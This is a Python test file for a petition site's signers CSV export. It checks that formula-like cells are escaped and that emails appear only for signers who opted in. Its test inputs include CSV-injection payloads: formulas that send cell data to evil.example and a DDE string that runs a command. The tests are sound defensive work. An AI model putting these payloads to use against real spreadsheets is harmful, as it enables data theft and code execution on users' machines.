"""The signers CSV: spreadsheet-safe cells, and only what each signer's consent allows."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from django.utils import timezone
from hypothesis import given
from hypothesis import strategies as st

from callingtime.petitions.exports import (
    FORMULA_STARTS,
    SIGNERS_HEADER,
    SignerRow,
    cell_safe,
    signer_cells,
    signers_csv_lines,
)
from callingtime.petitions.models import Petition, SignatureState
from callingtime.petitions.staff_selectors import petition_signers_export
from tests.factories import PetitionFactory, SignatureFactory


def _parse(lines: list[str]) -> list[dict[str, str]]:
    text = "".join(lines)
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.DictReader(io.StringIO(text[1:])))


@pytest.mark.parametrize(
    "dangerous",
    [
        "=1+1",
        "+44 20 7946 0000",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "=cmd|' /C calc'!A0",
    ],
)
def test_cells_that_start_a_formula_are_quoted(dangerous: str) -> None:
    assert cell_safe(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Ada Lovelace", "N7 8AA", "", "O'Brien", "a=b", "x-ray"])
def test_ordinary_cells_are_left_alone(harmless: str) -> None:
    assert cell_safe(harmless) == harmless


@given(st.text(max_size=40))
def test_no_cell_reaches_a_spreadsheet_as_a_formula(text: str) -> None:
    safe = cell_safe(text)
    assert not safe.startswith(FORMULA_STARTS)
    assert safe.removeprefix("'") == text or safe == text


@given(st.text(max_size=30), st.text(max_size=30))
def test_every_cell_of_the_file_is_safe_and_round_trips(name: str, postcode: str) -> None:
    row = SignerRow(
        name=name,
        postcode=postcode,
        constituency_code="E14001305",
        constituency="Islington North",
        source="online",
        signed_at=timezone.now(),
        validated_at=None,
        email="",
    )
    parsed = list(csv.reader(io.StringIO("".join(signers_csv_lines([row]))[1:], newline="")))
    assert parsed[0] == list(SIGNERS_HEADER)
    assert parsed[1] == signer_cells(row)
    for cell in parsed[1]:
        assert not cell.startswith(FORMULA_STARTS)


def _validated(petition: Petition, **fields: Any) -> Any:
    return SignatureFactory(
        petition=petition,
        state=SignatureState.VALIDATED,
        validated_at=timezone.now() - timedelta(minutes=1),
        **fields,
    )


@pytest.mark.django_db
def test_export_gives_email_only_of_signers_who_opted_in() -> None:
    petition = PetitionFactory()
    _validated(petition, name="Opted In", email="yes@example.org", opt_in=True)
    _validated(petition, name="Not Opted", email="no@example.org", opt_in=False)
    rows = {
        row["name"]: row
        for row in _parse(list(signers_csv_lines(petition_signers_export(petition=petition))))
    }
    assert rows["Opted In"]["email"] == "yes@example.org"
    assert rows["Not Opted"]["email"] == ""
    text = "".join(signers_csv_lines(petition_signers_export(petition=petition)))
    assert "no@example.org" not in text


@pytest.mark.django_db
def test_export_holds_only_validated_living_signatures_and_no_ip() -> None:
    petition = PetitionFactory()
    _validated(petition, name="Counted", ip_address="203.0.113.9")
    for state in (
        SignatureState.PENDING,
        SignatureState.FRAUDULENT,
        SignatureState.DUPLICATE,
        SignatureState.INVALIDATED,
    ):
        SignatureFactory(petition=petition, state=state, name=f"Not {state}")
    _validated(petition, name="Anonymised", anonymised_at=timezone.now())
    _validated(PetitionFactory(), name="Other petition")
    lines = list(signers_csv_lines(petition_signers_export(petition=petition)))
    rows = _parse(lines)
    assert [row["name"] for row in rows] == ["Counted"]
    assert list(rows[0]) == list(SIGNERS_HEADER)
    assert "203.0.113.9" not in "".join(lines)
    assert rows[0]["validated_at"] and rows[0]["signed_at"]


@pytest.mark.django_db
def test_export_names_the_constituency_from_the_geography_store(
    demo_stores: tuple[Path, Path],
) -> None:
    petition = PetitionFactory()
    _validated(petition, constituency_code="E14001305")
    _validated(petition, constituency_code="")
    rows = _parse(list(signers_csv_lines(petition_signers_export(petition=petition))))
    names = sorted(row["constituency"] for row in rows)
    assert names == ["", "Islington North"]


@pytest.mark.django_db
def test_a_formula_typed_as_a_name_is_defused_in_the_export() -> None:
    petition = PetitionFactory()
    _validated(petition, name='=IMPORTXML(CONCAT("http://evil.example/",A2),"//a")')
    rows = _parse(list(signers_csv_lines(petition_signers_export(petition=petition))))
    assert rows[0]["name"].startswith("'=")
